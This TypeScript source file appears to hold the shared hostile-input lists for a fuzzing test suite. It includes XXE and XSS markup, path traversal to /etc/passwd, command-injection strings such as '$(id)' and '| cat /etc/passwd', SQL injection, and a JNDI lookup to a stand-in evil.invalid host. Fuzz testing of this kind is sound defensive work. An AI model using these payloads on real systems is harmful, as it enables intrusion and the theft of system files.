// The hostile values every fuzzer draws from: control bytes, escape sequences, broken UTF-16, markup,
// traversal, absolute URLs (only to .invalid hosts, which never resolve), injection idioms and
// prototype-pollution keys. Kept in one place so HTTP, tool and named fuzzers test the same things.
import fc from 'fast-check';

/** Host names that never resolve (RFC 6761), for every URL a fuzzer writes. */
export const EVIL_HOST = 'evil.invalid';

export const PROTO_KEYS = ['__proto__', 'constructor', 'prototype'] as const;

export const CONTROL_STRINGS = [
  '\n',
  '\r',
  '\r\n',
  '\u0000',
  '\u0007',
  '\b',
  '\t',
  '\u000b',
  '\u000c',
  '\u007f',
  '\u0085',
  '\u2028',
  '\u2029',
  '\u001b[2J\u001b[H',
  '\u001b]0;x\u0007',
  '\u001b[31m',
  '\u009b31m',
];

export const BROKEN_UTF16 = ['\ud800', '\udfff', 'a\udc00b', '\ud83d', '\ufeff', '\uffff', '\ufffe'];

export const MARKUP = [
  '</name><password>x</password><name>',
  ']]>',
  '<![CDATA[<x/>]]>',
  '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
  '<!ENTITY % p "x">',
  '&amp;',
  '&lt;&gt;&quot;&apos;',
  '&#0;',
  '&#x1F600;',
  '&e;',
  '"\'><script>alert(1)</script>',
  '<?xml version="1.0"?>',
  '<soapenv:Body/>',
];

export const TRAVERSAL = [
  '../../etc/passwd',
  '..',
  '.',
  '../',
  '..\\..\\windows\\win.ini',
  '/etc/passwd',
  'C:\\boot.ini',
  '%2e%2e%2f',
  '..%2f',
  '%2e%2e/',
  '%252e%252e%252f',
  '%c0%ae%c0%ae/',
  '..;/',
  'a/../../b',
  '\\\\server\\share',
  'report.md\u0000.txt',
];

export const URLS = [
  `http://${EVIL_HOST}/x`,
  `https://${EVIL_HOST}:443/vmrest/users`,
  `//${EVIL_HOST}/x`,
  `\\\\${EVIL_HOST}\\x`,
  'file:///etc/passwd',
  'javascript:alert(1)',
  `http://user:pass@${EVIL_HOST}/`,
  `gopher://${EVIL_HOST}:25/`,
];

export const INJECTION = [
  '${jndi:ldap://evil.invalid/a}',
  '{{7*7}}',
  "' OR 1=1 --",
  '; utils system restart',
  '$(id)',
  '`id`',
  '| cat /etc/passwd',
  '%s%s%s%n',
  '\u202egnp.exe',
  'İ',
  '\u0301',
  '𝕏',
];

export const HOSTILE_FRAGMENTS: string[] = [
  ...CONTROL_STRINGS,
  ...BROKEN_UTF16,
  ...MARKUP,
  ...TRAVERSAL,
  ...URLS,
  ...INJECTION,
  ...PROTO_KEYS,
];

/** A hostile string: one fragment, or fragments joined with plain text, or a very long run. */
export function hostileString(): fc.Arbitrary<string> {
  const piece = fc.oneof(
    { weight: 3, arbitrary: fc.constantFrom(...HOSTILE_FRAGMENTS) },
    { weight: 1, arbitrary: fc.string({ maxLength: 8 }) },
    { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 8 }) },
  );
  return fc.oneof(
    { weight: 4, arbitrary: fc.constantFrom(...HOSTILE_FRAGMENTS) },
    { weight: 4, arbitrary: fc.array(piece, { minLength: 1, maxLength: 6 }).map((p) => p.join('')) },
    { weight: 1, arbitrary: fc.integer({ min: 1000, max: 100_000 }).map((n) => 'A'.repeat(n)) },
    { weight: 1, arbitrary: fc.constantFrom('', ' ', '   ') },
  );
}

/**
 * Nested arrays or objects `depth` levels deep (built without recursion), which fast-check prints as
 * `nested(depth, kind)` rather than recursing into them.
 */
export function nested(depth: number, kind: 'array' | 'object'): unknown {
  let v: unknown = 'leaf';
  for (let i = 0; i < depth; i++) v = kind === 'array' ? [v] : { a: v };
  Object.defineProperty(v, fc.toStringMethod, {
    value: () => `nested(${depth}, '${kind}')`,
    enumerable: false,
  });
  return v;
}

/** A value of the wrong kind for any field: numbers at the edges, null, containers, deep nesting. */
export function wrongValue(): fc.Arbitrary<unknown> {
  return fc.oneof(
    fc.constantFrom(0, -1, -0, 0.5, 1e308, -1e308, 2 ** 53 + 2, Number.MAX_SAFE_INTEGER, 4294967296),
    fc.constantFrom(true, false, null),
    fc.constant([]),
    fc.constant({}),
    fc.array(fc.string({ maxLength: 4 }), { maxLength: 3 }),
    fc.dictionary(fc.string({ maxLength: 6 }), fc.string({ maxLength: 6 }), { maxKeys: 3 }),
    // Deeper than jsonValue allows; the SDK client itself overflows past a few thousand levels (the named
    // cases send 100,000 levels as raw JSON-RPC).
    fc.integer({ min: 65, max: 2000 }).chain((d) => fc.constantFrom(nested(d, 'array'), nested(d, 'object'))),
    protoObject(),
  );
}

/** An object whose own enumerable keys include a prototype-pollution name. */
export function protoObject(): fc.Arbitrary<Record<string, unknown>> {
  return fc
    .tuple(
      fc.constantFrom(...PROTO_KEYS),
      fc.constantFrom<unknown>({ polluted: true }, 'x', { isAdmin: true }),
    )
    .map(([k, v]) => withOwnKey({}, k, v));
}

/** Sets `key` as an own, enumerable property even when it is `__proto__` (so JSON.stringify sends it). */
export function withOwnKey<T extends object>(obj: T, key: string, value: unknown): T {
  Object.defineProperty(obj, key, { value, enumerable: true, writable: true, configurable: true });
  return obj;
}
